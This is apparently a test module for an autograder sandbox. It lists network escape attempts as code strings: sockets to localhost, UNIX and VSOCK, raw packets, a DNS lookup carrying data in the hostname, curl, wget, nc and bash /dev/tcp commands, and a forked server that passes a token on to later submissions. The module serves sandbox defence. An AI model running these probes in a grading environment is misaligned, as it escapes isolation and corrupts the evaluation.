"""Leave by wire: send the questions out, fetch the answers, ask a model."""

from autograder.tests.hostile import family_of

attack = family_of("network")

SEND = """
import socket
found = []
def send(family, kind, address):
    try:
        with socket.socket(family, kind) as wire:
            wire.settimeout(0.5)
            if kind == socket.SOCK_DGRAM:
                wire.sendto(b"packet", address)
            else:
                wire.connect(address)
                wire.sendall(b"packet")
                found.append("sent")
    except (OSError, ValueError):
        pass
"""

ATTACKS = (
    attack(
        "TCP to the machine",
        "a server of the machine's, by all its names",
        SEND
        + """
for host in ("127.0.0.1", "127.0.0.2", "localhost", "0.0.0.0", "HOST"):
    send(socket.AF_INET, socket.SOCK_STREAM, (host, PORT))
send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT))
still_open = found
""",
    ),
    attack(
        "UDP to the machine",
        "datagrams need no answer",
        SEND
        + """
for host in ("127.0.0.1", "HOST", "255.255.255.255"):
    for _ in range(3):
        send(socket.AF_INET, socket.SOCK_DGRAM, (host, UDP))
still_open = found
""",
    ),
    attack(
        "a socket that is a file",
        "the way around the network",
        SEND + "send(socket.AF_UNIX, socket.SOCK_STREAM, 'UNIX')\nstill_open = found",
    ),
    attack(
        "a socket in the abstract space",
        "the way around the files",
        SEND + "send(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + 'ABSTRACT')\nstill_open = found",
    ),
    attack(
        "the virtual machine's own wire",
        "VSOCK leads from a guest to its host, whatever the network namespace",
        SEND
        + """
for cid in (0, 1, 2, 3):
    send(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, (cid, PORT))
try:
    socket.socket(40, socket.SOCK_STREAM)
    found.append("canary-vsock-000000000000000000000000")
except OSError:
    pass
still_open = found
""",
    ),
    attack(
        "raw packets",
        "the network card itself",
        SEND
        + """
for family, kind, protocol in ((17, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1), (16, socket.SOCK_RAW, 15)):
    try:
        wire = socket.socket(family, kind, protocol)
        wire.sendto(b"packet" * 10, ("lo", 3) if family == 17 else ("127.0.0.1", 0))
    except (OSError, TypeError):
        pass
still_open = found
""",
    ),
    attack(
        "the name server",
        "a question that carries the data in its name",
        "import socket\ntry:\n    socket.getaddrinfo('hidden.example.invalid', 80)\n"
        "    found = ['resolved']\nexcept OSError:\n    found = []\nstill_open = found",
    ),
    attack(
        "a download",
        "the answers are fetched",
        """
import urllib.request
try:
    still_open = urllib.request.urlopen("http://127.0.0.1:PORT/answers", timeout=1).read().decode()
except OSError:
    still_open = ["nothing"]
""",
    ),
    attack(
        "a helper program",
        "curl, wget, nc or bash's own device",
        """
import subprocess
for command in ("curl -m 1 http://127.0.0.1:PORT/", "wget -T 1 -O- http://127.0.0.1:PORT/", "nc -w 1 127.0.0.1 PORT </dev/null",
                "bash -c 'echo packet > /dev/tcp/127.0.0.1/PORT'"):
    subprocess.run(command, shell=True, timeout=3)
still_open = 0
""",
    ),
    attack(
        "a message between sandboxes",
        "a server for the next submission, on the sandbox's own loopback",
        """
import os, socket
server = socket.create_server(("127.0.0.1", 45678))
if os.fork() == 0:
    os.setsid()
    while True:
        wire, _ = server.accept()
        wire.sendall(b"TOKEN")
        wire.close()
still_open = 0
""",
        then="""
import socket
try:
    with socket.create_connection(("127.0.0.1", 45678), 1) as wire:
        still_open = wire.recv(100).decode()
except OSError:
    still_open = ["nobody"]
""",
    ),
)
